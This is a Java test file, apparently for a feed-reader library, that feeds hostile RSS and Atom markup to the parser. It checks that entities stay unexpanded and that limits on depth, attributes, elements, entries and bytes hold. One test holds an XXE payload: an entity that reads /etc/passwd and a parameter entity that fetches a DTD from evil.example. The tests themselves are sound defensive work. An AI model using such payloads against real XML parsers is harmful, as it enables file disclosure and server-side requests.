package dev.vedette.feeds;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vedette.feeds.markup.Element;
import dev.vedette.feeds.markup.MarkupLimits;
import dev.vedette.feeds.markup.TreeBuilder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** What bounds the work is counted: depth, elements, attributes, characters of the answer. */
class HostileFeedsTest {

    private static final int MANY = 100_000;

    @Test
    void entities_of_the_document_are_never_expanded() {
        Feed feed = Reading.feed("""
                <?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
                <!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p; ]>
                <rss><channel><title>&b;&file;</title></channel></rss>""");

        assertThat(feed.title()).extracting(Text::plain).isEqualTo("&b;&file;");
    }

    @Test
    void a_hundred_thousand_levels_are_cut_to_the_limit() {
        Element root = TreeBuilder.build(
                "<rss><channel>" + "<a>".repeat(MANY) + "deep" + "</a>".repeat(MANY) + "<title>T</title>");

        assertThat(depth(root)).isLessThanOrEqualTo(MarkupLimits.DEPTH + 1);
        assertThat(Reading.feed("<rss><channel>" + "<a>".repeat(MANY) + "</a>".repeat(MANY) + "<title>T</title>")
                        .title())
                .isEqualTo(new Text("T", false));
    }

    @Test
    void html_of_a_hundred_thousand_levels_is_cut_to_the_limit() {
        Entry entry = Reading.item("<description><![CDATA[" + "<b>".repeat(MANY) + "deep]]></description>");

        assertThat(entry.summary()).satisfies(summary -> {
            assertThat(summary.plain()).isEqualTo("deep");
            assertThat(summary.value().length()).isLessThan(1000);
        });
    }

    @Test
    void a_huge_attribute_and_a_hundred_thousand_small_ones() {
        StringBuilder attributes = new StringBuilder();
        for (int i = 0; i < MANY; i++) {
            attributes.append(" a").append(i).append("='").append(i).append('\'');
        }
        Entry entry = Reading.atom(
                "<link href='https://a.example/" + "x".repeat(1 << 22) + "'/><title" + attributes + ">T</title>");

        assertThat(entry.title()).isEqualTo(new Text("T", false));
        int[] kept = {0};
        Element root = TreeBuilder.build("<t" + attributes + "/>");
        root.children().getFirst().attributes().forEach((name, value) -> kept[0]++);
        assertThat(kept[0]).isEqualTo(MarkupLimits.ATTRIBUTES);
    }

    @Test
    void more_elements_than_the_limit_are_left_out() {
        Element root = TreeBuilder.build("<a/>".repeat(MarkupLimits.ELEMENTS + 1000));

        assertThat(root.children()).hasSize(MarkupLimits.ELEMENTS);
    }

    @Test
    void more_entries_than_the_limit_are_left_out() {
        Feed feed = Reading.feed("<rss><channel>" + "<item><title>x</title></item>".repeat(Limits.MAX_ENTRIES + 10));

        assertThat(feed.entries()).hasSize(Limits.MAX_ENTRIES);
    }

    @Test
    void marks_that_open_and_never_close_cost_one_pass() {
        for (String mark : new String[] {
            "<!--", "<![CDATA[", "<!DOCTYPE [", "<?x ", "<a b=\"", "<a b='", "</", "<!", "&#", "<script>"
        }) {
            Feed feed = Reading.feed("<rss><channel><title>T</title><item><description>" + mark.repeat(MANY));

            assertThat(feed.title()).isEqualTo(new Text("T", false));
        }
    }

    @Test
    void nuls_and_other_controls_do_not_come_through() {
        Entry entry = Reading.item(
                "<title>a\0b\u0001c</title><link>https://a.example/\0x</link><description>&lt;b&gt;\0&#1;</description>");

        assertThat(entry.title()).isEqualTo(new Text("abc", false));
        assertThat(entry.summary()).isEqualTo(new Text("<b></b>", true));
    }

    @Test
    void what_lies_past_the_limit_of_bytes_is_not_read() {
        byte[] body = new byte[Limits.MAX_BYTES + 100];
        byte[] start = "<rss><channel><title>T</title>".getBytes(StandardCharsets.UTF_8);
        byte[] end = "<item/></channel></rss>".getBytes(StandardCharsets.UTF_8);
        Arrays.fill(body, (byte) ' ');
        System.arraycopy(start, 0, body, 0, start.length);
        System.arraycopy(end, 0, body, body.length - end.length, end.length);

        assertThat(Reading.feed(body, Map.of()).entries()).isEmpty();
    }

    private static int depth(Element element) {
        return 1
                + element.children().stream()
                        .mapToInt(HostileFeedsTest::depth)
                        .max()
                        .orElse(-1);
    }
}
